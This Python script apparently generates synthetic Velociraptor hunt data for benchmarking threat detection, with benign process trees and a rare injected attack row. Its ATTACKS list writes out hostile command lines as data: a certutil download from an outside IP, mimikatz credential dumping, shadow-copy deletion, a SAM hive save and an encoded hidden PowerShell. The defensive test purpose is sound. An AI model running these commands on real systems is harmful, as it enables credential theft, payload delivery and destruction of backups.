#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""gen.py - deterministic benchmark data in Velociraptor's shapes.

  gen.py pslist N [CLIENTS]   hunt_results() rows of Windows.System.Pslist
                              (with FlowId, ClientId, _OrgId, Fqdn)
  gen.py hosts N              clients() rows (os_info, last_seen_at in µs)
  gen.py fleet N              clients() rows of a varied fleet: names by
                              department and site (fin-ws00042, emea ...)
  gen.py hunt N CLIENTS TRUTH  a Windows.System.Pslist hunt as Velociraptor
                              returns it: each client's process tree
                              together (Pid/Ppid real), administrative
                              PowerShell and an agent's whoami on most
                              hosts as benign background, and about one
                              row in a thousand an injected attack; the
                              line numbers of those go to the file TRUTH

Same arguments, same bytes: a fixed seed and no clock."""
import json, random, sys

R = random.Random(20261127)
PROCS = [
    ("System", "", ""), ("smss.exe", r"C:\Windows\System32\smss.exe", r"\SystemRoot\System32\smss.exe"),
    ("csrss.exe", r"C:\Windows\System32\csrss.exe", r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows"),
    ("lsass.exe", r"C:\Windows\System32\lsass.exe", r"C:\Windows\system32\lsass.exe"),
    ("svchost.exe", r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p"),
    ("explorer.exe", r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    ("chrome.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe", r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer'),
    ("powershell.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile"),
    ("OUTLOOK.EXE", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"'),
    ("evil.exe", r"C:\Users\Public\evil.exe", r"C:\Users\Public\evil.exe -k"),
]
USERS = ["NT AUTHORITY\\SYSTEM", "CORP\\alice", "CORP\\bob", "NT AUTHORITY\\LOCAL SERVICE"]


def hexs(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def clients(n):
    return ["C.%016x" % (0x1000000000000000 + i * 7919) for i in range(n)]


def pslist(n, nclients):
    cids = clients(nclients)
    hashes = [{"MD5": hexs(32), "SHA1": hexs(40), "SHA256": hexs(64)} for _ in PROCS]
    out = sys.stdout
    for i in range(n):
        p = R.randrange(len(PROCS) - 1) if R.random() > 0.0005 else len(PROCS) - 1
        name, exe, cmd = PROCS[p]
        ci = R.randrange(nclients)
        row = {
            "CreateTime": "2026-08-20T%02d:%02d:%02dZ" % (R.randrange(24), R.randrange(60), R.randrange(60)),
            "Pid": R.randrange(4, 65536), "Ppid": R.randrange(4, 65536),
            "TokenIsElevated": R.random() < 0.3, "Name": name, "CommandLine": cmd, "Exe": exe,
            "TokenInfo": {"Username": R.choice(USERS), "SID": "S-1-5-18"},
            "Hash": hashes[p],
            "Authenticode": {"Trusted": "untrusted" if name == "evil.exe" else "trusted"},
            "Username": R.choice(USERS), "WorkingSetSize": R.randrange(1 << 20, 1 << 30),
            "FlowId": "F.C%08X.H" % ci, "ClientId": cids[ci], "_OrgId": "root",
            "Fqdn": "ws%05d.corp.local" % ci,
        }
        out.write(json.dumps(row, separators=(",", ":")) + "\n")


SYS32 = "C:\\Windows\\System32\\"
# Background on every host: (name, exe, command line, parent index).
TREE = [
    ("System", "", "", None),
    ("smss.exe", SYS32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe", 0),
    ("wininit.exe", SYS32 + "wininit.exe", "wininit.exe", 1),
    ("services.exe", SYS32 + "services.exe", SYS32 + "services.exe", 2),
    ("lsass.exe", SYS32 + "lsass.exe", SYS32 + "lsass.exe", 2),
    ("svchost.exe", SYS32 + "svchost.exe", SYS32 + "svchost.exe -k netsvcs -p", 3),
    ("svchost.exe", SYS32 + "svchost.exe", SYS32 + "svchost.exe -k LocalService -p", 3),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", 2),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', 7),
    ("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
     '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"', 7),
]
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
# Administrative background on a share of hosts: (share, name, exe, cmd).
ADMIN = [
    (0.7, "powershell.exe", PS, "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass "
     "-File C:\\ProgramData\\CorpIT\\inventory.ps1"),
    (0.5, "powershell.exe", PS, "powershell.exe -NoProfile -WindowStyle Hidden -Command "
     "\"Get-Service | Export-Csv C:\\ProgramData\\CorpIT\\svc.csv\""),
    (0.6, "whoami.exe", SYS32 + "whoami.exe", "whoami.exe /priv"),
]
# Attacks: (name, exe, command line, parent (name, exe, cmd)).
ATTACKS = [
    ("cmd.exe", SYS32 + "cmd.exe", "cmd.exe /c whoami",
     ("w3wp.exe", SYS32 + "inetsrv\\w3wp.exe", "w3wp.exe -ap DefaultAppPool")),
    ("powershell.exe", PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
     ("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WINWORD.EXE /n")),
    ("certutil.exe", SYS32 + "certutil.exe",
     "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe", None),
    ("rundll32.exe", SYS32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\x.dll,Start", None),
    ("mimikatz.exe", "C:\\Users\\Public\\mimikatz.exe",
     "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", None),
    ("vssadmin.exe", SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", None),
    ("reg.exe", SYS32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save", None),
]


def hunt(n, nclients, truth):
    """Each client's rows together, parents by Pid; benign filler."""
    h = random.Random(20261208)
    cids = clients(nclients)
    per = max(len(TREE) + 4, n // nclients)
    out, line, bad = sys.stdout, 0, []

    def emit(ci, pid, ppid, name, exe, cmd, evil=False):
        nonlocal line
        line += 1
        if evil:
            bad.append(line)
        row = {"Pid": pid, "Ppid": ppid, "Name": name, "CommandLine": cmd, "Exe": exe,
               "Username": "NT AUTHORITY\\SYSTEM", "Authenticode": {"Trusted": "trusted"},
               "FlowId": "F.C%08X.H" % ci, "ClientId": cids[ci], "_OrgId": "root",
               "Fqdn": "ws%05d.corp.local" % ci}
        out.write(json.dumps(row, separators=(",", ":")) + "\n")

    for ci in range(nclients):
        pids = []
        for name, exe, cmd, parent in TREE:
            pid = 4 if not pids else h.randrange(100, 60000)
            emit(ci, pid, pids[parent] if parent is not None else 0, name, exe, cmd)
            pids.append(pid)
        rows = len(TREE)
        for share, name, exe, cmd in ADMIN:
            if h.random() < share:
                emit(ci, h.randrange(100, 60000), pids[5], name, exe, cmd)
                rows += 1
        while rows < per:
            if h.random() < 0.001:
                name, exe, cmd, parent = ATTACKS[h.randrange(len(ATTACKS))]
                ppid = pids[7]
                if parent is not None:
                    ppid = h.randrange(100, 60000)
                    emit(ci, ppid, pids[3], *parent)
                    rows += 1
                emit(ci, h.randrange(100, 60000), ppid, name, exe, cmd, evil=True)
            else:
                i = h.randrange(5, len(TREE))
                emit(ci, h.randrange(100, 60000), pids[TREE[i][3]], *TREE[i][:3])
            rows += 1
    with open(truth, "w") as f:
        f.write("".join("%d\n" % b for b in bad))


def hosts(n):
    systems = [("windows", "10.0.19045"), ("windows", "10.0.22631"), ("linux", "24.04"), ("darwin", "14.5")]
    out = sys.stdout
    for i, cid in enumerate(clients(n)):
        system, rel = R.choice(systems)
        row = {
            "client_id": cid,
            "os_info": {"system": system, "hostname": "ws%05d" % i, "release": rel,
                        "fqdn": "ws%05d.corp.local" % i, "machine": "x86_64"},
            "first_seen_at": 1750000000 + R.randrange(5000000),
            "last_seen_at": (1764000000 + R.randrange(300000)) * 1000000,
            "last_ip": "10.%d.%d.%d" % (R.randrange(256), R.randrange(256), R.randrange(1, 255)),
            "labels": R.sample(["finance", "web", "dc", "vip", "lab"], R.randrange(3)),
        }
        out.write(json.dumps(row, separators=(",", ":")) + "\n")


def fleet(n):
    """Hosts named by department, kind and number, in sites: what a
    substring search is used for ("fin", "emea", "srv")."""
    f = random.Random(20261207)
    depts = ["fin", "hr", "eng", "ops", "sales", "legal", "it", "mkt"]
    kinds = [("ws", "windows", "10.0.22631"), ("lt", "windows", "10.0.19045"),
             ("srv", "linux", "24.04"), ("mac", "darwin", "14.5")]
    sites = ["emea", "amer", "apac"]
    out = sys.stdout
    for i, cid in enumerate(clients(n)):
        kind, system, rel = kinds[f.randrange(len(kinds))]
        name = "%s-%s%06d" % (depts[f.randrange(len(depts))], kind, i)
        row = {
            "client_id": cid,
            "os_info": {"system": system, "hostname": name, "release": rel,
                        "fqdn": "%s.%s.corp.example" % (name, sites[f.randrange(len(sites))]),
                        "machine": "x86_64"},
            "first_seen_at": 1750000000 + f.randrange(5000000),
            "last_seen_at": (1764000000 + f.randrange(300000)) * 1000000,
            "last_ip": "10.%d.%d.%d" % (f.randrange(256), f.randrange(256), f.randrange(1, 255)),
            "labels": f.sample(["finance", "web", "dc", "vip", "lab"], f.randrange(3)),
        }
        out.write(json.dumps(row, separators=(",", ":")) + "\n")


if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[1] not in ("pslist", "hosts", "fleet", "hunt"):
        sys.exit(__doc__)
    if sys.argv[1] == "hunt":
        if len(sys.argv) != 5:
            sys.exit(__doc__)
        hunt(int(sys.argv[2]), int(sys.argv[3]), sys.argv[4])
    elif sys.argv[1] == "pslist":
        pslist(int(sys.argv[2]), int(sys.argv[3]) if len(sys.argv) > 3 else 1000)
    elif sys.argv[1] == "fleet":
        fleet(int(sys.argv[2]))
    else:
        hosts(int(sys.argv[2]))
